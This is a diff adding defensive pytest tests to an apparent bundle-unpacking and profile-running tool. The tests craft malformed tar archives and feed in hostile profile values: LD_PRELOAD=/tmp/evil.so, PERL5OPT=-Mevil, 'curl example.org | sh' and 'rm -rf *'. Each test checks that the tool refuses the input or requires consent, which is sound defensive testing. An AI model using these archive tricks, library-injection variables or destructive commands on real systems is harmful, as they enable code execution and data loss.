@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import gzip
 import io
 import tarfile
 from pathlib import Path
@@ -94,6 +95,58 @@ def test_headers_of_any_length_are_refused_unread(
         unpack(tmp_path / "evil.tar.gz", tmp_path / "room")
 
 
+def _header(name: str, size: bytes, kind: bytes = tarfile.REGTYPE) -> bytes:
+    """Return a header of a tar file with any bytes as its size."""
+    entry = tarfile.TarInfo(name)
+    entry.type = kind
+    made = bytearray(entry.tobuf(tarfile.USTAR_FORMAT))
+    made[124 : 124 + len(size)] = size
+    made[148:156] = b" " * 8
+    made[148:156] = b"%06o\0 " % sum(made)
+    return bytes(made)
+
+
+def _pax(record: bytes) -> bytes:
+    """Return a header that says something of the file behind it."""
+    body = b"%d %s\n" % (len(record) + 4, record)
+    header = _header("pax", b"%011o\0" % len(body), tarfile.XHDTYPE)
+    return header + body.ljust(tarfile.BLOCKSIZE, b"\0")
+
+
+_NOTHING = b"%011o\0" % 0
+_FAR_BACK = b"\xff" + (-2048).to_bytes(11, "big", signed=True)
+_FILE = _header("bundle.json", b"%011o\0" % 2) + b"{}".ljust(tarfile.BLOCKSIZE, b"\0")
+
+
+@pytest.mark.parametrize(
+    ("archive", "why"),
+    [
+        (_FILE + _header("manifest.json", _FAR_BACK), "has no place in a bundle"),
+        (_pax(b"GNU.sparse.map=a,b") + _FILE, "cannot be read as a bundle"),
+        (_pax(b"GNU.sparse.size=x") + _FILE, "cannot be read as a bundle"),
+        (
+            _header("bundle.json", b"%011o\0" % 0, tarfile.GNUTYPE_SPARSE),
+            "has no place in a bundle",
+        ),
+        (_pax(b"comment=nested") * 3000 + _FILE, "cannot be read as a bundle"),
+        (
+            b"".join(_header(f"profile/{n}", b"%011o\0" % 0) for n in range(5000)),
+            "is larger than any",
+        ),
+    ],
+    ids=["backwards", "holes", "size", "sparse", "nested", "many"],
+)
+def test_archives_that_lead_their_reader_astray_are_refused(
+    archive: bytes, why: str, tmp_path: Path
+) -> None:
+    """tarfile has errors of its own for a few of them alone."""
+    file = tmp_path / "evil.tar.gz"
+    file.write_bytes(gzip.compress(archive + bytes(2 * tarfile.BLOCKSIZE)))
+    with pytest.raises(DataError, match=why):
+        unpack(file, tmp_path / "room")
+    assert not (tmp_path / "room").exists()
+
+
 def test_a_verdict_about_another_library_is_not_kept(tmp_path: Path) -> None:
     judged = result_of()
     file = tmp_path / "verdict.json"
@@ -157,6 +210,29 @@ def test_a_command_with_other_variables_is_another_command(tmp_path: Path) -> No
     (tree.profiles / "foreign.toml").write_text(FOREIGN, encoding="utf-8")
     file.write_text(FOREIGN + 'env = { PERL5OPT = "-Mevil" }\n', encoding="utf-8")
     with pytest.raises(DataError, match="env PERL5OPT=-Mevil sh -c 'curl"):
+        require_consent(tree, parse_profile(file), frozenset())
+
+
+def test_a_program_of_ours_with_variables_of_a_foreign_bundle_needs_consent(tmp_path: Path) -> None:
+    """The loader executes what LD_PRELOAD names, in any program."""
+    tree, file = Tree(tmp_path), tmp_path / "foreign.toml"
+    tree.profiles.mkdir(parents=True)
+    (tree.profiles / "foreign.toml").write_text(FOREIGN, encoding="utf-8")
+    ours = 'program = "bench/tiny_hot"\n'
+    evil = FOREIGN.replace(ours, f'{ours}env = {{ LD_PRELOAD = "/tmp/evil.so" }}\n')
+    file.write_text(evil, encoding="utf-8")
+    with pytest.raises(DataError, match=r"env LD_PRELOAD=/tmp/evil\.so bench/tiny_hot"):
+        require_consent(tree, parse_profile(file), frozenset())
+
+
+def test_a_command_in_another_folder_is_another_command(tmp_path: Path) -> None:
+    """What cleans up the empty folder that it starts in would clean up the tree."""
+    tree, file = Tree(tmp_path), tmp_path / "foreign.toml"
+    own = FOREIGN.replace("curl example.org | sh", "make; rm -rf *")
+    tree.profiles.mkdir(parents=True)
+    (tree.profiles / "foreign.toml").write_text(own + "scratch = true\n", encoding="utf-8")
+    file.write_text(own, encoding="utf-8")
+    with pytest.raises(DataError, match=r"rm -rf \*' \(in the root of the tree\)"):
         require_consent(tree, parse_profile(file), frozenset())
 
 
